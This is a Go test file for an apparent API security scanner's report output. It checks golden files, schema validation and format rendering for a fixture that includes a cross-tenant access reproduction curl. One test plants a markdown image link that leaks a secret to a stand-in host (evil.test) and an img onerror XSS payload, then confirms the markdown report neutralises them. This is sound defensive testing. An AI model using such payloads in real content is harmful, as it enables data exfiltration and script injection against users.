package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rampart-scan/rampart/internal/check"
	"github.com/rampart-scan/rampart/internal/engine"
	"github.com/rampart-scan/rampart/internal/plan"
)

var update = flag.Bool("update", false, "rewrite golden files")

// Fixture is a fixed report used by golden tests (no volatile fields).
func fixture() *Report {
	fs := []check.Finding{
		{Rule: "bola.cross-tenant", Category: check.BOLA, Severity: check.Critical, Confidence: check.Confirmed, Method: "GET", Path: "/v2/invoices/{invoice_id}",
			Parameter: &check.Param{In: "header", Name: "X-Org-Id"}, Identity: "alice", Title: "Tenant selector not bound to the caller",
			Detail: "alice's key read org_9b20's invoice by sending X-Org-Id: org_9b20.", Remediation: "Derive the tenant from the credential.",
			OWASP: []string{"API1:2023"}, CWE: []string{"CWE-639"}, SpecLocation: &check.Location{File: "openapi.yaml", Line: 212},
			Affected: []check.Endpoint{}, Evidence: []check.Evidence{{Kind: "http", Identity: "alice", Request: "GET /v2/invoices/inv_2001 HTTP/1.1\r\n", Response: "HTTP/1.1 200 OK\r\n\r\n{\"id\":\"inv_2001\"}"}},
			Curl: "curl -sS -i -H \"Authorization: $RAMPART_ID_ALICE\" -H 'X-Org-Id: org_9b20' 'http://127.0.0.1:8080/v2/invoices/inv_2001'"},
		{Rule: "authn.security-headers", Category: check.Authentication, Severity: check.Low, Confidence: check.Confirmed, Method: "*", Path: "*",
			Title: "Security headers missing", Remediation: "Send nosniff.", OWASP: []string{"API8:2023"}, CWE: []string{"CWE-693"},
			Affected: []check.Endpoint{{Method: "GET", Path: "/a"}, {Method: "GET", Path: "/b"}}, Evidence: []check.Evidence{}},
	}
	for i := range fs {
		fs[i].Fingerprint = check.Fingerprint(fs[i].Rule, fs[i].Method, fs[i].Path, fs[i].Parameter)
	}
	res := &engine.Result{Findings: fs, Families: []engine.FamilyResult{
		{ID: "authn", Category: check.Authentication, Status: engine.StatusOK, Requests: 40},
		{ID: "bola", Category: check.BOLA, Status: engine.StatusOK, Requests: 60},
		{ID: "llm", Category: check.LLM, Status: engine.StatusSkipped, Reason: "no LLM endpoint found"},
		{ID: "ratelimit", Category: check.RateLimiting, Status: engine.StatusBudgetExhausted, Reason: "request budget exhausted (--max-requests)", Requests: 10},
	}}
	return Build(Input{
		Version: "0.1.0", ScanID: "20261127T100000Z-000000000001", Target: "http://127.0.0.1:8080",
		Spec:      &SpecInfo{Source: "openapi.yaml", SHA256: strings.Repeat("ab", 32)},
		StartedAt: time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC), Duration: 4210 * time.Millisecond,
		Options: Options{Depth: "standard", Rate: 50, Concurrency: 8, MaxRequests: 5000, Identities: []IdentityInfo{{Name: "alice", Role: "user", Tenant: []string{"org_7d41", "acme"}}}},
		Result:  res, Skipped: []plan.Skipped{{Method: "POST", Path: "/admin/reset", Reason: "name says it changes state"}},
	})
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden file (run go test ./internal/report -update):\n%s", name, got)
	}
}

func TestJSONGoldenAndSchema(t *testing.T) {
	r := fixture()
	var b bytes.Buffer
	if err := WriteJSON(&b, r); err != nil {
		t.Fatal(err)
	}
	if err := Validate(b.Bytes()); err != nil {
		t.Fatalf("schema: %v", err)
	}
	golden(t, "report.json", b.Bytes())
	back, err := ReadJSON(&b)
	if err != nil || len(back.Findings) != 2 || back.Findings[0].Severity != check.Critical {
		t.Fatalf("round trip: %v", err)
	}
}

func TestScoresAndStatuses(t *testing.T) {
	r := fixture()
	status := map[check.Category]string{}
	for _, c := range r.Categories {
		status[c.ID] = c.Status
	}
	if len(r.Categories) != 12 || status[check.BOLA] != Assessed || status[check.LLM] != NotApplicable ||
		status[check.RateLimiting] != Error || status[check.SSRF] != NotAssessed {
		t.Fatalf("statuses: %v", status)
	}
	// bola: one confirmed critical → 60; authentication: one low → 97; weighted (15*60+15*97)/30 = 78.5 → 79, capped at 69.
	if r.Score == nil || *r.Score != 69 || *r.Grade != "D" {
		t.Fatalf("score %v grade %v", r.Score, r.Grade)
	}
	if r.CurlVariables["RAMPART_ID_ALICE"] == "" {
		t.Fatalf("curl variables: %v", r.CurlVariables)
	}
}

func TestSchemaRejectsBadReports(t *testing.T) {
	var b bytes.Buffer
	WriteJSON(&b, fixture())
	good := b.String()
	for name, bad := range map[string]string{
		"wrong schema id":  strings.Replace(good, `"rampart.report/v1"`, `"rampart.report/v0"`, 1),
		"bad severity":     strings.Replace(good, `"severity": "critical"`, `"severity": "severe"`, 1),
		"missing findings": strings.Replace(good, `"findings": [`, `"findingz": [`, 1),
	} {
		if err := Validate([]byte(bad)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestTextGolden(t *testing.T) {
	var b bytes.Buffer
	if err := WriteText(&b, fixture(), TextOptions{Verbose: true}); err != nil {
		t.Fatal(err)
	}
	golden(t, "report.txt", b.Bytes())
	var c bytes.Buffer
	WriteText(&c, fixture(), TextOptions{Color: true})
	if !strings.Contains(c.String(), "\x1b[") {
		t.Error("color option ignored")
	}
	if strings.Contains(b.String(), "\x1b[") {
		t.Error("color without the option")
	}
}

func TestFormatsGolden(t *testing.T) {
	r := fixture()
	supp := "accepted until the v3 migration"
	r.Findings[1].Suppressed = &supp
	high := check.High
	o := RenderOptions{Rules: []check.Rule{
		{ID: "bola.cross-tenant", Title: "Tenant selector not bound to the caller", Category: check.BOLA, Severity: check.Critical, SeverityRule: "critical", OWASP: []string{"API1:2023"}, CWE: []string{"CWE-639"}, Remediation: "Derive the tenant from the credential."},
		{ID: "bola.object-access", Title: "Object of another user readable", Category: check.BOLA, Severity: check.High, OWASP: []string{"API1:2023"}, CWE: []string{"CWE-639"}},
		{ID: "authn.security-headers", Title: "Security headers missing", Category: check.Authentication, Severity: check.Low, OWASP: []string{"API8:2023"}, CWE: []string{"CWE-693"}},
	}, SARIFLocation: ".github/rampart.yaml", FailOn: &high}
	for _, c := range []struct{ format, file string }{
		{"sarif", "report.sarif"}, {"markdown", "report.md"}, {"junit", "report.junit.xml"}, {"github", "report.github.txt"}, {"html", "report.html"},
	} {
		var b bytes.Buffer
		if err := Render(&b, c.format, r, o); err != nil {
			t.Fatalf("%s: %v", c.format, err)
		}
		golden(t, c.file, b.Bytes())
	}
	if err := Render(&bytes.Buffer{}, "pdf", r, o); err == nil {
		t.Error("unknown format accepted")
	}
}

// sarifSchema is the SARIF schema the brief provides (read from there, never copied).
var sarifSchema = filepath.Join("..", "..", "..", "shared", "data", "sarif-schema-2.1.0.json")

func TestSARIFValidates(t *testing.T) {
	if _, err := os.Stat(sarifSchema); err != nil {
		t.Skip("../shared/data/sarif-schema-2.1.0.json is absent")
	}
	var b bytes.Buffer
	if err := WriteSARIF(&b, fixture(), RenderOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := ValidateSARIF(b.Bytes(), sarifSchema); err != nil {
		t.Fatalf("sarif: %v", err)
	}
	if err := ValidateSARIF([]byte(`{"version":"9"}`), sarifSchema); err == nil {
		t.Error("an invalid log validates")
	}
}

// A hostile target's text (a model-built image link, raw HTML) is inert in the markdown report.
func TestMarkdownNeutralisesTargetText(t *testing.T) {
	r := fixture()
	r.Findings[0].Detail = `built ![x](http://evil.test/?q=secret) and <img src=x onerror=alert(1)>`
	var b bytes.Buffer
	if err := WriteMarkdown(&b, r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "![x](") || strings.Contains(b.String(), "<img") {
		t.Errorf("target text is live in markdown:\n%s", b.String())
	}
}
